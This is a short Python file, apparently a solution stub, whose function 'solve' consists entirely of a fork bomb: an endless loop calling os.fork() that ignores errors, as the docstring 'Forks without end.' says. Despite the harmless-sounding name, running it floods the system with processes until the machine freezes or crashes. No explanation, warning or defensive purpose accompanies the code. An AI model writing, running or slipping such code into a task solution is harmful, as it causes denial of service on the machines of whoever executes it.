"""Forks without end."""

import os


def solve(x, where):
    while True:
        try:
            os.fork()
        except OSError:
            pass
